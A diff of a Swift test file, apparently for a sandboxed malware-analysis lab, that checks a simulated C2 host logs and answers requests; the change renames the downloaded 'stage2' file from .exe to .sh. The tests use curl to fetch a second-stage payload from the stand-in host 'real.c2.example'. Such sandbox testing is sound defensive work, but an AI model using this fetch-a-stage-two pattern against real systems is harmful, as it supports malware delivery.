@@ -21,7 +21,7 @@ import Testing
         let page = inNetns(lab, ["/usr/bin/curl", "-s", "-m", "5", "-A", "petri-real", "http://real.c2.example/index.html?x=1"])
         #expect(page.status == 0 && page.out.contains("It works!"))
         let out = lab.dir.appendingPathComponent("dl.bin")
-        let dl = inNetns(lab, ["/usr/bin/curl", "-s", "-m", "5", "-o", out.path, "http://real.c2.example/files/stage2.exe"])
+        let dl = inNetns(lab, ["/usr/bin/curl", "-s", "-m", "5", "-o", out.path, "http://real.c2.example/files/stage2.sh"])
         #expect(dl.status == 0)
         #expect((try? Data(contentsOf: out)).map(Array.init) == HTTPResponder.builtinPayload)
         let s = await lab.net.stop()
@@ -32,7 +32,7 @@ import Testing
         let conn = try #require(s.connections.first { $0.id == h.connection })
         #expect(conn.domain == "real.c2.example" && s.dns.contains { $0.name == "real.c2.example" && $0.answers.contains(conn.ip) })
         #expect(q.answers.count == 1)
-        #expect(s.http.contains { $0.path == "/files/stage2.exe" && $0.response == "payload:builtin" })
+        #expect(s.http.contains { $0.path == "/files/stage2.sh" && $0.response == "payload:builtin" })
     }
 
     @Test func glibcResolverGetsAnswersFromTheStubAddress() async throws {
